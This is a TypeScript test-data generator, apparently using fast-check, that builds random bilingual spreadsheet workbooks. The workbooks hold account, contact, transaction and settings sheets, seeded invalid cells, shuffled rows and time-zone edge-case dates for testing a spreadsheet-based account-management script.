    .constantFrom<Cell>('boss@example.com', 'boss@example.com, ceo@evil.org', 'the boss')
    .map((v) => ({ key: 'manager_emails', value: v, invalid: v === 'the boss' })),
  fc
    .constantFrom<Cell>(1, 5, 8)
    .map((v) => ({ key: 'manager_digest_weekday', value: v, invalid: v === 8 })),
];

const SETTINGS_COLUMNS = [
  { key: 'setting', en: 'Setting', zh: '设置项' },
  { key: 'value', en: 'Value', zh: '值' },
] as const;

function settingsArb(): fc.Arbitrary<{
  sheet: GeneratedSheet;
  invalid: CellRef[];
  allowed: string[];
  markup: string[];
}> {
  return fc
    .record({
      name: sheetNameArb({ key: 'settings', en: 'Settings', zh: '设置' }),
      spell: fc.tuple(fc.constantFrom(...spellings), fc.constantFrom(...spellings)),
      swap: fc.boolean(),
      keyStyle: fc.constantFrom('key', 'words'),
      allowed: fc.constantFrom(...ALLOWED_SETTINGS),
      optional: fc
        .subarray([...OPTIONAL_SETTINGS.keys()])
        .chain((which) => fc.tuple(...which.map((i) => OPTIONAL_SETTINGS[i]))),
      rates: fc.subarray<[string, Cell, boolean]>([
        ['USD', 7.1, false],
        ['EUR', '7.8', false],
        ['JPY', 'x', true],
        ['GBP', -2, true],
      ]),
      zhRates: fc.boolean(),
    })
    .map((g) => {
      const [keyCol, valueCol] = g.swap ? [1, 0] : [0, 1];
      const header: Cell[] = [];
      header[keyCol] = spell(SETTINGS_COLUMNS[0], g.spell[0]);
      header[valueCol] = spell(SETTINGS_COLUMNS[1], g.spell[1]);
      const rows: Grid = [header];
      const invalid: CellRef[] = [];
      const markup: string[] = [];
      const settingRows: SettingRow[] = [
        { key: 'allowed_recipient_domains', value: g.allowed.text, invalid: false },
        ...g.optional,
      ];
      for (const s of settingRows) {
        const row: Cell[] = [null, null];
        row[keyCol] = g.keyStyle === 'key' ? s.key : s.key.replace(/_/g, ' ').toUpperCase();
        row[valueCol] = s.value;
        rows.push(row);
        if (s.invalid)
          invalid.push({
            sheet: g.name,
            row: rows.length,
            column: String(header[valueCol]).trim(),
            value: s.value,
          });
        if (hasMarkup(s.value)) markup.push(s.value);
      }
      if (g.rates.length > 0) {
        rows.push([null, null]);
        const rateHeader = g.zhRates
          ? ['币种', '兑本币汇率']
          : ['Currency', 'Rate to Home Currency'];
        rows.push(rateHeader);
        for (const [code, rate, isBad] of g.rates) {
          rows.push([code, rate]);
          if (isBad)
            invalid.push({ sheet: g.name, row: rows.length, column: rateHeader[1], value: rate });
        }
      }
      const keys = [null, null] as (string | null)[];
      keys[keyCol] = 'setting';
      keys[valueCol] = 'value';
      return {
        sheet: { key: 'settings' as const, name: g.name, rows, keys },
        invalid,
        allowed: g.allowed.parsed,
        markup,
      };
    });
}

/** Days "today" is fixed to: DST changes of the five test zones, month and year ends, a leap day. */
export const INTERESTING_TODAYS: readonly Ymd[] = [
  { y: 2026, m: 3, d: 8 }, // America/Los_Angeles springs forward
  { y: 2026, m: 3, d: 29 }, // Europe/Berlin springs forward
  { y: 2026, m: 4, d: 5 }, // Pacific/Auckland falls back
  { y: 2026, m: 9, d: 27 }, // Pacific/Auckland springs forward
  { y: 2026, m: 10, d: 25 }, // Europe/Berlin falls back
  { y: 2026, m: 11, d: 1 }, // America/Los_Angeles falls back
  { y: 2026, m: 12, d: 31 },
  { y: 2027, m: 1, d: 1 },
  { y: 2028, m: 2, d: 29 },
  { y: 2026, m: 11, d: 23 },
];

export interface WorkbookOptions {
  /** Upper bound on body rows per sheet (default 12). */
  readonly maxRows?: number;
}

/** A whole workbook: every input sheet (some may be missing), Settings, and the truth. */
export function workbookArb(options: WorkbookOptions = {}): fc.Arbitrary<GeneratedWorkbook> {
  const maxRows = options.maxRows ?? 12;
  const todayArb = fc.oneof(
    fc.constantFrom(...INTERESTING_TODAYS),
    fc
      .integer({ min: dayOfYmd({ y: 2020, m: 1, d: 1 }), max: dayOfYmd({ y: 2032, m: 12, d: 31 }) })
      .map(ymdOfDay),
  );
  const names = fc.record({
    accounts: sheetNameArb({ key: 'accounts', ...INPUT_SHEETS.accounts }),
    contacts: sheetNameArb({ key: 'contacts', ...INPUT_SHEETS.contacts }),
    transactions: sheetNameArb({ key: 'transactions', ...INPUT_SHEETS.transactions }),
    interactions: sheetNameArb({ key: 'interactions', ...INPUT_SHEETS.interactions }),
    actions: sheetNameArb({ key: 'actions', ...INPUT_SHEETS.actions }),
    plans: sheetNameArb({ key: 'plans', ...INPUT_SHEETS.plans }),
    opportunities: sheetNameArb({ key: 'opportunities', ...INPUT_SHEETS.opportunities }),
  });
  const children = [
    'contacts',
    'transactions',
    'interactions',
    'actions',
    'plans',
    'opportunities',
  ] as const;
  return fc
    .record({
      today: todayArb,
      locale: fc.constantFrom('en_US' as const, 'zh_CN' as const),
      names,
      ids: fc.uniqueArray(idArb, {
        maxLength: Math.max(1, Math.ceil(maxRows * 0.7)),
        selector: (v) => String(v).trim(),
      }),
      // Rows with a blank ID (reported as missing), anywhere among the accounts.
      blankIds: fc.array(fc.nat(), { maxLength: 2 }),
      present: fc.subarray([...children]),
      layouts: fc.record({
        accounts: layoutArb(INPUT_SHEETS.accounts.columns, 2),
        contacts: layoutArb(INPUT_SHEETS.contacts.columns, 1),
        transactions: layoutArb(INPUT_SHEETS.transactions.columns, 2),
        interactions: layoutArb(INPUT_SHEETS.interactions.columns, 1),
        actions: layoutArb(INPUT_SHEETS.actions.columns, 1),
        plans: layoutArb(INPUT_SHEETS.plans.columns, 1),
        opportunities: layoutArb(INPUT_SHEETS.opportunities.columns, 2),
      }),
      settings: settingsArb(),
      order: fc.array(fc.nat(), { minLength: 9, maxLength: 9 }),
    })
    .chain((f) => {
      const today = dayOfYmd(f.today);
      const ids: Cell[] = f.ids.slice();
      for (const at of f.blankIds) ids.splice(at % (ids.length + 1), 0, null);
      const ctx = { today, ids };
      return fc
        .record({
          accounts: rowsArb(f.layouts.accounts, ctx, ids.length + 2, true),
          contacts: rowsArb(f.layouts.contacts, ctx, maxRows, false),
          transactions: rowsArb(f.layouts.transactions, ctx, maxRows * 2, false),
          interactions: rowsArb(f.layouts.interactions, ctx, maxRows, false),
          actions: rowsArb(f.layouts.actions, ctx, maxRows, false),
          plans: rowsArb(f.layouts.plans, ctx, Math.ceil(maxRows / 2), false),
          opportunities: rowsArb(f.layouts.opportunities, ctx, maxRows, false),
        })
        .map((rows): GeneratedWorkbook => {
          const built: Built[] = [
            buildSheet('accounts', f.names.accounts, f.layouts.accounts, rows.accounts, ids),
          ];
          for (const key of children)
            if (f.present.includes(key))
              built.push(buildSheet(key, f.names[key], f.layouts[key], rows[key], ids));
          // Sheets in any order, Settings among them.
          const sheets: GeneratedSheet[] = [...built.map((b) => b.sheet), f.settings.sheet];
          const order = sheets
            .map((s, i) => ({ s, k: f.order[i % f.order.length] * 10 + i }))
            .sort((a, b) => a.k - b.k)
            .map((x) => x.s);
          const quietColumns = new Set<string>();
          for (const b of built) {
            const spec = INPUT_SHEETS[b.sheet.key as Exclude<InputKey, 'settings'>];
            b.sheet.keys.forEach((k, i) => {
              const c = spec.columns.find((x) => x.key === k);
              if (c?.quiet)
                quietColumns.add(`${b.sheet.name}\u0000${String(b.sheet.rows[0][i]).trim()}`);
            });
          }
          return {
            today: f.today,
            locale: f.locale,
            sheets: order,
            truth: {
              invalid: [...built.flatMap((b) => b.invalid), ...f.settings.invalid],
              quietColumns,
              accountIds: built[0].accountIds,
              allowed: f.settings.allowed,
              markup: [...new Set([...built.flatMap((b) => b.markup), ...f.settings.markup])],
            },
          };
        });
    });
}

/**
 * The same workbook with the body rows of every data sheet reordered by `keys` (Settings is
 * left alone: its rows are a key/value table and a rate table below it). `rowMap` gives, per
 * sheet, new row number → original row number.
 */
export function shuffleRows(
  wb: GeneratedWorkbook,
  keys: readonly number[],
): { workbook: GeneratedWorkbook; rowMap: Map<string, number[]> } {
  const rowMap = new Map<string, number[]>();
  let k = 0;
  const next = (): number => (keys.length === 0 ? 0 : keys[k++ % keys.length]);
  const sheets = wb.sheets.map((s) => {
    if (s.key === 'settings') return s;
    const body = s.rows.slice(1).map((row, i) => ({ row, from: i + 2, key: next() * 1000 + i }));
    body.sort((a, b) => a.key - b.key);
    rowMap.set(s.name, [0, 1, ...body.map((b) => b.from)]);
    return { ...s, rows: [s.rows[0], ...body.map((b) => b.row)] };
  });
  const invalid = wb.truth.invalid.map((c) => {
    const map = rowMap.get(c.sheet);
    return map ? { ...c, row: map.indexOf(c.row) } : c;
  });
  return { workbook: { ...wb, sheets, truth: { ...wb.truth, invalid } }, rowMap };
}

/** The Apps Script date cell for a generated date: that wall time in the spreadsheet's zone. */
export function toHostDate(
  v: Date,
  instant: (y: number, m: number, d: number, h: number, mi: number, s: number) => number,
): Date {
  return new Date(
    instant(
      v.getUTCFullYear(),
      v.getUTCMonth() + 1,
      v.getUTCDate(),
      v.getUTCHours(),
      v.getUTCMinutes(),
      v.getUTCSeconds(),
    ),
  );
}
